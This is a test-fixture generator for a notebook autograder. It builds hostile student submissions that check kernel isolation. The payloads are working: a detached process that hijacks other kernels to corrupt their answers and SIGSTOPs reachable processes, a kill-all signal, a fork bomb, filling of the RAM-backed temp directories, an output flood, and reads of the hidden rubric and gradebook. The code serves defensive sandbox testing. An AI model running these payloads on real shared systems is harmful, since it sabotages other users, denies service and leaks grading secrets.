"""Write the kernel-isolation attacks (issue 11, attacks 1-6) as Z9 submissions, and what each must get.

Each attacker answers both exercises correctly, then attacks: its own score
must stay 4/4, the victims' (plain correct submissions graded in the same
batch) too, and nothing the attacker started may be alive after grading.
``kernel-attacks.json`` maps each file to its status and score. Run
``python tests/notebooks/hostile/make_kernel_attacks.py`` after changing the
Z9 fixture; the files are committed.
"""

from __future__ import annotations

import json
from pathlib import Path

import nbformat

from make_hostile import cell, correct, with_extra  # type: ignore[import-not-found]

HERE = Path(__file__).parent

#: Attack 1: a child in its own session outlives the kernel, finds the other kernels'
#: connection files and makes their answer() record -1. Also tries to signal them.
ESCAPE = r'''
import subprocess, sys
code = """
import glob, os, time
from jupyter_client import BlockingKernelClient
PATCH = ("import workbook.notebook as _n\\n_o = _n.answer\\n"
         "get_ipython().user_ns['answer'] = lambda i, v, *a, **k: _o(i, -1)")
seen = set()
end = time.time() + 90
while time.time() < end:
    found = set(glob.glob('/tmp/**/kernel*.json', recursive=True)) | set(glob.glob('/proc/*/cwd/../ipc/kernel.json'))
    for f in found - seen:
        seen.add(f)
        try:
            kc = BlockingKernelClient(connection_file=f)
            kc.load_connection_file()
            kc.start_channels()
            kc.execute(PATCH)
            time.sleep(0.5)
            kc.stop_channels()
        except Exception:
            pass
    for pid in range(2, 4096):
        try:
            os.kill(pid, 19)  # SIGSTOP whatever it can reach
        except OSError:
            pass
    time.sleep(0.2)
"""
child = subprocess.Popen([sys.executable, "-c", code, "cto-workbook-escaped-child"], start_new_session=True,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("started", child.pid)
'''

#: Attack 5: hundreds of answer payloads, each under the old 2 MB exemption.
FLOOD = r'''
from IPython.display import display
from workbook.notebook.answers import ANSWER_MIME, encode_answer
big = "x" * 200_000
for i in range(300):
    display({ANSWER_MIME: encode_answer("z9-total", big), "text/plain": "flood"}, raw=True)
'''

#: Attack 4: fill /dev/shm, /tmp and /var/tmp (RAM-backed) and leave it there.
FILL = r'''
import os
written = {}
for folder in ("/dev/shm", "/tmp", "/var/tmp"):
    total = 0
    try:
        with open(os.path.join(folder, "cto-workbook-filler"), "wb") as fh:
            for _ in range(1024):
                fh.write(b"\0" * 2**20)
                fh.flush()
                total += 2**20
    except OSError as exc:
        written[folder] = (total // 2**20, type(exc).__name__)
print(written)
'''

#: Attack 6: as many processes as it can, each in its own session.
FORK = r'''
import subprocess
children = []
try:
    for _ in range(2000):
        children.append(subprocess.Popen(["sleep", "300"], start_new_session=True))
except OSError as exc:
    print("stopped after", len(children), type(exc).__name__)
'''

#: Attack 1 (signals): kill every process this user can reach.
KILL_ALL = r'''
import os, signal
try:
    os.kill(-1, signal.SIGKILL)
except OSError as exc:
    print("kill -1:", type(exc).__name__)
'''

#: Attacks 2 and 3: the checkout's history, the hidden rubric, instructor notebooks, other kernels' files, the gradebook.
READS = r'''
import glob, os, pathlib, workbook
checkout = pathlib.Path(workbook.__file__).resolve().parents[1]
targets = [checkout / ".git" / "HEAD", checkout / "exercises" / "hidden" / "L6.py", checkout / "notebooks",
           pathlib.Path(os.environ.get("CTO_WORKBOOK_EXERCISES", "/nonexistent")) / "hidden" / "Z9.py"]
targets += [pathlib.Path(p) for p in glob.glob("/tmp/**/gradebook.sqlite*", recursive=True)]
targets += [pathlib.Path(p) for p in glob.glob("/tmp/wbg-*") if not os.getcwd().startswith(p + "/")]  # other kernels' scratch
leaks = [str(t) for t in targets if t.exists()]
print("leaks", leaks)
total = base + seed % 7
answer("z9-total", total if not leaks else -1.0)
'''


def reads_checkout() -> object:
    nb = correct()
    cell(nb, "z9-total").source = READS.strip()
    return nb


def build() -> dict[str, tuple[object, str, float]]:
    return {
        "escapes-session": (with_extra(correct(), "z9-double", ESCAPE, "extra-escape"), "graded", 4),
        "answer-flood": (with_extra(correct(), "z9-double", FLOOD, "extra-flood"), "graded", 4),
        "fills-shm": (with_extra(correct(), "z9-double", FILL, "extra-fill"), "graded", 4),
        "fork-bomb": (with_extra(correct(), "z9-double", FORK, "extra-fork"), "graded", 4),
        "kills-all": (with_extra(correct(), "z9-double", KILL_ALL, "extra-kill"), "graded", 4),
        "reads-checkout": (reads_checkout(), "graded", 4),
    }


def main() -> None:
    expected = {}
    for name, (nb, status, score) in build().items():
        (HERE / f"{name}.ipynb").write_bytes(nbformat.writes(nb).encode() + b"\n")
        expected[name] = {"status": status, "score": score}
    (HERE / "kernel-attacks.json").write_text(json.dumps(expected, indent=2) + "\n")


if __name__ == "__main__":
    main()
